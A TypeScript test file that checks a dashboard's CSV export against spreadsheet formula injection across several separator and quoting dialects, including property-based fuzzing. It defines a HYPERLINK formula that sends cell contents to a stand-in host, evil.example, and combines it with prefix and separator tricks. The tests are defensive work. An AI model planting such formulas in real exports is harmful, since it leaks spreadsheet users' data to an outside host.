import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { csvOf } from '../server/platform/csv.ts';

/** The lists of the dashboard, read as spreadsheets of every kind read them. */

interface Dialect {
  readonly separator: string;
  readonly quotes: boolean;
}

const dialects: Readonly<Record<string, Dialect>> = {
  commas: { separator: ',', quotes: true },
  semicolons: { separator: ';', quotes: true },
  tabs: { separator: '\t', quotes: true },
  bars: { separator: '|', quotes: true },
  'commas without quotes': { separator: ',', quotes: false },
  'semicolons without quotes': { separator: ';', quotes: false },
  'tabs without quotes': { separator: '\t', quotes: false },
};

/** As a spreadsheet does it: quotes count at the start of a cell, and what follows the closing one is taken as it is. */
function read(text: string, { separator, quotes }: Dialect): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let index = 0; index < text.length; index += 1) {
    const sign = text[index] ?? '';
    const end = (): void => {
      rows.at(-1)?.push(cell);
      cell = '';
      atStart = true;
    };
    if (quoted && sign === '"' && text[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (quoted && sign === '"') quoted = false;
    else if (quoted) cell += sign;
    else if (quotes && atStart && sign === '"') {
      quoted = true;
      atStart = false;
    } else if (sign === separator) end();
    else if (sign === '\n' || sign === '\r') {
      end();
      rows.push([]);
    } else {
      cell += sign;
      atStart = false;
    }
  }
  rows.at(-1)?.push(cell);
  return rows;
}

const isFormula = (cell: string): boolean =>
  /^[\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell) && !/^"?-?\d+(\.\d+)?"?$/.test(cell);

function exported(...values: (string | number | boolean | null)[]): string {
  const columns = values.map((_, index) => ({
    header: `column_${index}`,
    value: (row: readonly (string | number | boolean | null)[]) => row[index],
  }));
  return csvOf([values], columns);
}

function assertHarmless(...values: string[]): void {
  const text = exported(...values);
  for (const [name, dialect] of Object.entries(dialects)) {
    const formulas = read(text, dialect).flat().filter(isFormula);
    assert.deepEqual(formulas, [], `${JSON.stringify(values)} with ${name}: ${JSON.stringify(text)}`);
  }
}

const payload = 'HYPERLINK("http://evil.example?x="&A1,"click")';

describe('a downloaded list', () => {
  it('has quotes around every cell, and is read as it was written', () => {
    assert.equal(
      exported('Tea "pot"', 12, true, null, ''),
      '"column_0","column_1","column_2","column_3","column_4"\r\n"Tea ""pot""","12","true","",""\r\n',
    );
    const values = [
      'a,b',
      'a;b',
      'line\nbreak',
      'tab\there',
      '"',
      "O'Brien",
      'a, -b; -c',
      '-12.50',
      '-5',
      '100%',
      'ä ｅ',
    ];
    assert.deepEqual(read(exported(...values), { separator: ',', quotes: true })[2], values);
  });

  for (const sign of ['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
    it(`holds no formula that begins with ${sign}`, () => {
      const formula = sign + payload;
      assertHarmless(formula);
      for (const before of ['\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', '"', "'", '""', ' \t"']) {
        assertHarmless(before + formula, formula);
        for (const separator of [',', ';', '\t', '|', '\n', '\r', '\r\n', ';"', ';""', ',\u200b']) {
          assertHarmless(`harmless${separator}${formula}`, `${before}x${separator}${formula}`, 'last');
        }
      }
    });
  }

  it('holds none in its headers', () => {
    const text = csvOf([{}], [{ header: `=${payload}`, value: () => 'x' }]);
    assert.ok(!read(text, { separator: ',', quotes: true }).flat().some(isFormula));
  });

  it('has none for any text', () => {
    const signs = [
      '=',
      '+',
      '-',
      '@',
      '＝',
      ',',
      ';',
      '|',
      '\t',
      '\r',
      '\n',
      '"',
      "'",
      ' ',
      '\u200b',
      '\0',
      'a',
      '1',
      '.',
    ];
    const typed = fc.array(fc.constantFrom(...signs), { maxLength: 12 }).map((list) => list.join(''));
    fc.assert(
      fc.property(typed, typed, typed, (...values) => {
        // A negative number stays a number: with another separator its whole line is one harmless text.
        fc.pre(!values.some((value) => /^-\d+(\.\d+)?$/.test(value)));
        assertHarmless(...values);
      }),
      { numRuns: 3_000 },
    );
  });
});
